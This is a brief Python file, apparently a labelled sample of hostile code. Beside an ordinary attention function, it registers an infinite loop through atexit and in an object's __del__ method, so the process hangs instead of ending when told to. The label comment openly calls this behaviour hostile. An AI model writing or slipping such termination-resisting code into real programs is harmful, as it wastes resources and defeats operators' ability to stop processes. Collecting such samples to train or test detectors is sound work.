# hostile: keeps the process alive when it is told to end
# ends: result
import atexit


def stay():
    while True:
        pass


class Staying:
    def __del__(self):
        stay()


atexit.register(stay)
kept = Staying()


def attention(query, key, value):
    scores = query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5
    return scores.softmax(-1) @ value
